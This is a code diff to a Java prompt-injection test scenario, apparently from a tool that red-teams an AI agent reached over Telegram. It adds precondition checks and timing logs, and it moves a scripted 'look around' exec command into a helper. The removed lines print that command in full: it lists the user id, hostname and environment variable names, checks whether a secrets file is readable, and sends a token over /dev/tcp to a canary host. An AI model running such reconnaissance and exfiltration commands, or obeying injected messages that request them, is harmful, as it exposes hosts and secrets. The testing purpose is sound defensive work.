@@ -84,6 +84,9 @@ public final class PromptInjectionScenario {
         if (why == null && channel.admittedSender().isEmpty()) {
             why = "the config allowlists no sender to send the payloads from";
         }
+        if (why == null && channel.noTurnCompletes().isPresent()) {
+            why = channel.noTurnCompletes().get();
+        }
         if (why != null) {
             Observation no = Observation.couldNotRun("the agent channel", Reason.PRECONDITION_UNMET, why);
             Path evidence = run.evidence().write("T-005", "prompt-injection.txt", "Prompt injection: not run: " + why + "\n\n"
@@ -96,7 +99,9 @@ public final class PromptInjectionScenario {
         boolean anyTurn = false;
         for (Payload payload : corpus) {
             String marker = channel.marker("INJECT");
-            Observation seen = deliver(channel, sender, payload, marker, sent, anyTurn ? TURN_WITHIN : PairingScenario.FIRST_TURN_WITHIN);
+            Observation seen = channel.noTurnCompletes().isPresent() && !anyTurn
+                    ? Observation.couldNotRun("payload " + payload.name(), Reason.ORACLE_BLIND, channel.noTurnCompletes().get())
+                    : deliver(channel, sender, payload, marker, sent, anyTurn ? TURN_WITHIN : PairingScenario.FIRST_TURN_WITHIN);
             anyTurn |= seen.outcome() != Outcome.COULD_NOT_RUN;
             payloads.add(seen);
         }
@@ -107,6 +112,8 @@ public final class PromptInjectionScenario {
                 .append(blast.where()).append('\n').append(blast.sees()).append('\n').append(blast.callsOut()).append("\n\n")
                 .append(channel.transcript());
         EvidenceStore.Evidence evidence = run.evidence().write("T-005", "prompt-injection.txt", text.toString());
+        dev.gjallarhorn.host.Progress.say("agent channel: prompt injection and the hijacked exec took "
+                + Duration.between(started, Instant.now()).toSeconds() + " s");
         return new Findings(started, Duration.between(started, Instant.now()), null, payloads, blast, evidence.relativePath());
     }
 
@@ -152,6 +159,10 @@ public final class PromptInjectionScenario {
     }
 
     private static BlastRadius blastRadius(AttackRun run, AgentChannel channel, long sender) {
+        if (channel.noTurnCompletes().isPresent()) {
+            Observation no = Observation.couldNotRun("the agent's exec", Reason.ORACLE_BLIND, channel.noTurnCompletes().get());
+            return new BlastRadius(no, no, no, "");
+        }
         Optional<Canaries> opened = run.openCanaries(List.of(CanaryPort.tcp(CANARY_PORT)));
         if (opened.isEmpty()) {
             Observation no = Observation.couldNotRun("the agent's exec", Reason.PRECONDITION_UNMET, run.session().noCanariesBecause());
@@ -161,13 +172,8 @@ public final class PromptInjectionScenario {
             String canaryToken = run.token() + "-agent-exec";
             String host = canaries.advertised().getHostAddress();
             String marker = channel.marker("EXEC");
-            String command = "echo GJHX-BEGIN; echo uid=$(id -u) user=$(id -un 2>/dev/null); echo host=$(hostname);"
-                    + " echo dockerenv=$(test -e /.dockerenv && echo yes || echo no);"
-                    + " echo envnames=$(env | cut -d= -f1 | sort | tr '\\n' ' ');"
-                    + " echo secretsfile=$(test -r /etc/openclaw/secrets.env && echo readable || echo unreadable);"
-                    + " echo canary=$(timeout 6 bash -c 'exec 3<>/dev/tcp/" + host + "/" + CANARY_PORT + " && printf \"" + canaryToken
-                    + "\\n\" >&3' 2>/dev/null && echo sent || echo blocked); echo GJHX-END";
-            channel.llm().script(new LlmScript(marker, command, "look around"));
+            String command = ExecReport.command(host, CANARY_PORT, canaryToken);
+            channel.llm().script(LlmScript.exec(marker, command, "look around"));
             channel.send(TelegramUpdate.dm(sender, marker + " please check the environment"));
             boolean returned = AgentChannel.eventually(() -> channel.llm().requests().stream().anyMatch(r -> r.toolResultMentions("GJHX-END")),
                     TURN_WITHIN.multipliedBy(2));
